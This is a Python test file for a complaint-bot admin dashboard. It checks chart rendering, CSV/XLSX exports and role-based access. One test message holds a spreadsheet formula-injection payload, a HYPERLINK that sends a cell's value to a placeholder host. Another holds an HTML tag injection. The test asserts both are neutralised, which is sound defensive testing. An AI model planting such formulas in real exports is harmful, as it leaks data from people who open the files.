"""The dashboard in process on real databases: a supervisor sees their agency's figures as SVG charts (no
script, labels escaped) and tables, exports them as CSV and XLSX (openpyxl reads the file back); the JSON API
gives the same; an officer may not; another agency's figures are not reachable."""

from __future__ import annotations

import io
import re

import httpx
from openpyxl import load_workbook
from sqlalchemy import update

from bot.db.models import Case
from bot.messaging.runtime import Runtime
from tests.bot.cases.chat import file_complaint, say
from tests.bot.cases.conftest import PASSWORD, sign_in

CSRF = re.compile(r'name="csrf" value="([^"]+)"')


async def _page_session(client: httpx.AsyncClient, username: str) -> None:
    token = CSRF.search((await client.get("/login")).text).group(1)  # type: ignore[union-attr]
    assert (await client.post("/login", data={"username": username, "password": PASSWORD,
                                              "csrf": token})).status_code == 303


async def test_a_supervisor_sees_the_figures_as_charts_and_exports_them(
        api: tuple[httpx.AsyncClient, Runtime]) -> None:
    client, rt = api
    await file_complaint(rt)
    await say(rt, "<b>zzz qqq</b> bagaimana cara memelihara naga?", phone="+6281255500044")  # not in the standards
    await say(rt, "syarat kks hilang apa?", phone="+6281255500045")
    await say(rt, '=HYPERLINK("http://x.example/?"&B3,"klik") bagaimana memelihara naga? wa 081234567890',
              phone="+6281255500046")
    await rt.transact(lambda s: s.execute(update(Case).values(step=2)))
    token = await sign_in(client, rt, "kabid.tl", role="supervisor")
    data = (await client.get("/api/dashboard", headers=token)).json()
    tables = {t["key"]: t for t in data["tables"]}
    assert tables["tahap"]["rows"][0][1] == 1 and tables["tahap"]["rows"][0][0].startswith("2. ")
    assert sum(sum(r[1:]) for r in tables["pesan"]["rows"]) >= 10  # the citizens' messages of today
    assert any("naga" in r[1] for r in tables["tak-terjawab"]["rows"])
    assert tables["layanan"]["rows"] and tables["layanan"]["rows"][0][1] >= 1
    await _page_session(client, "kabid.tl")
    page = await client.get("/admin")
    assert page.status_code == 200 and page.text.count("<svg") >= 4 and "<script" not in page.text
    assert "&lt;b&gt;zzz qqq&lt;/b&gt;" in page.text and "<b>zzz" not in page.text
    exported = await client.get("/admin/export.csv", params={"table": "tahap"})
    assert exported.status_code == 200 and exported.text.splitlines()[0] == "Tahap,Jumlah"
    questions = (await client.get("/admin/export.csv", params={"table": "tak-terjawab"})).text
    assert "'=HYPERLINK" in questions and "081234567890" not in questions  # never a formula; numbers masked
    book = load_workbook(io.BytesIO((await client.get("/admin/export.xlsx")).content))
    assert {"tahap", "sla", "ikm", "pesan", "layanan", "tak-terjawab"} <= set(book.sheetnames)
    assert book["tahap"].cell(3, 2).value == 1
    assert (await client.get("/api/dashboard", params={"agency": "tarakan"}, headers=token)).status_code == 404


async def test_an_officer_may_not(api: tuple[httpx.AsyncClient, Runtime]) -> None:
    client, rt = api
    token = await sign_in(client, rt, "petugas.tl")
    assert (await client.get("/api/dashboard", headers=token)).status_code == 403
    await _page_session(client, "petugas.tl")
    assert (await client.get("/admin")).status_code == 403
